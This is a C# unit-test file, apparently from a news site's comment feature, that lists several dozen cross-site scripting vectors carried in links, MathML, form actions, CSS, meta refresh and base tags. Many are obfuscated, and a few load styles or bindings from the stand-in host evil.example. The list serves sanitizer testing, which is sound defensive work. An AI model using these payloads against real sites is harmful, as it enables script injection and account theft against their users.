namespace NewsPortal.UnitTests.Features.Comments;

/// <summary>
/// XSS vectors that carry script in a URL or a style: links, MathML, forms, CSS, meta refresh, base and link.
/// Part of <see cref="XssVectors.All"/>.
/// </summary>
internal static class XssUrlVectors
{
    public static IReadOnlyList<string> All { get; } =
    [
        // javascript:, vbscript: and data: URLs in links.
        """<a href="javascript:alert(1)">x</a>""",
        """<a href="JaVaScRiPt:alert(1)">x</a>""",
        """<a href="  javascript:alert(1)">x</a>""",
        """<a href="&#32;javascript:alert(1)">x</a>""",
        "<a href=\"\u0001javascript:alert(1)\">x</a>",
        """<a href="&#1;javascript:alert(1)">x</a>""",
        """<a href="&#14;javascript:alert(1)">x</a>""",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        """<a href="jav&#x09;ascript:alert(1)">x</a>""",
        """<a href="jav&#x0A;ascript:alert(1)">x</a>""",
        """<a href="jav&#x0D;ascript:alert(1)">x</a>""",
        """<a href="java&Tab;script:alert(1)">x</a>""",
        """<a href="java&NewLine;script:alert(1)">x</a>""",
        """<a href="javascript&colon;alert(1)">x</a>""",
        """<a href="javascript&#58;alert(1)">x</a>""",
        """<a href="javascript&#x3A;alert(1)">x</a>""",
        """<a href="javascript&#0000058alert(1)">x</a>""",
        """<a href="jAvAsCrIpT&colon;alert&lpar;1&rpar;">x</a>""",
        """<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>""",
        """<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)">x</a>""",
        """<a href="&#X6A;avascript:alert(1)">x</a>""",
        """<a href="javas&#99;ript:alert(1)">x</a>""",
        """<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">x</a>""",
        """<a href="javascript://%0Aalert(1)">x</a>""",
        """<a href="javascript://https://example.com/%0Aalert(1)">x</a>""",
        """<a href=javascript:alert(1)>x</a>""",
        """<a href='javascript:alert(1)'>x</a>""",
        """<a href=`javascript:alert(1)`>x</a>""",
        """<a href="javascript:alert(1)" rel="nofollow">x</a>""",
        """<a href="javascript:alert(1)"><b>bold</b></a>""",
        """<a href="javascript:alert(1)" href="https://example.com">x</a>""",
        """<a href="vbscript:msgbox(1)">x</a>""",
        """<a href="VBScript:MsgBox(1)">x</a>""",
        """<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>""",
        """<a href="data:text/html,<script>alert(1)</script>">x</a>""",
        """<a href="DATA:text/html,<script>alert(1)</script>">x</a>""",
        """<a href=" data:text/html,<script>alert(1)</script>">x</a>""",
        """<a xlink:href="javascript:alert(1)">x</a>""",
        """<a href="https://example.com/" style="background:url(javascript:alert(1))">x</a>""",
        """<a href="https://example.com/" rel="opener" target="_blank">x</a>""",
        """<a href="https://example.com/`onmouseover=alert(1)`">x</a>""",
        """<a href="https://example.com/"><img src=x onerror=alert(1)></a>""",
        """<a href="https://example.com"><svg><a href="javascript:alert(1)">x</a></svg></a>""",

        // MathML links.
        """<math><a xlink:href="javascript:alert(1)">click</a></math>""",
        """<math href="javascript:alert(1)">click</math>""",
        """<math><maction actiontype="statusline#https://example.com" xlink:href="javascript:alert(1)">click</maction></math>""",

        // Forms: action and formaction.
        """<form action="javascript:alert(1)"><input type=submit></form>""",
        """<form><button formaction="javascript:alert(1)">x</button></form>""",
        """<form><input type=submit formaction=javascript:alert(1) value=x></form>""",
        """<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>""",
        """<isindex action=javascript:alert(1) type=submit value=click>""",
        """<form action="data:text/html,<script>alert(1)</script>"><button>go</button></form>""",

        // Styles: expression(), url(javascript:), behaviours and bindings.
        """<div style="width: expression(alert('XSS'));">x</div>""",
        """<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>""",
        """<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">x</DIV>""",
        """<STYLE>@import'https://evil.example/xss.css';</STYLE>""",
        """<STYLE>BODY{-moz-binding:url("https://evil.example/xssmoz.xml#xss")}</STYLE>""",
        """<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>""",
        """<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>""",
        """<XSS STYLE="behavior: url(xss.htc);">""",
        """<XSS STYLE="xss:expression(alert('XSS'))">""",
        """<LINK REL="stylesheet" HREF="javascript:alert('XSS');">""",
        """<p style="x:expression(alert(1))">x</p>""",
        """<b style="background:url(&quot;javascript:alert(1)&quot;)">x</b>""",
        """<TABLE BACKGROUND="javascript:alert('XSS')">""",
        """<TABLE><TD BACKGROUND="javascript:alert('XSS')">""",
        """<BGSOUND SRC="javascript:alert('XSS');">""",
        """<BR SIZE="&{alert('XSS')}">""",
        """<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>""",

        // Meta refresh, base, link.
        """<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">""",
        """<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">""",
        """<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://;URL=javascript:alert('XSS');">""",
        """<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">""",
        """<BASE HREF="javascript:alert('XSS');//">""",
        """<base href="https://evil.example/">""",
        """<base target="_blank" href="javascript:alert(1)//">""",
    ];
}
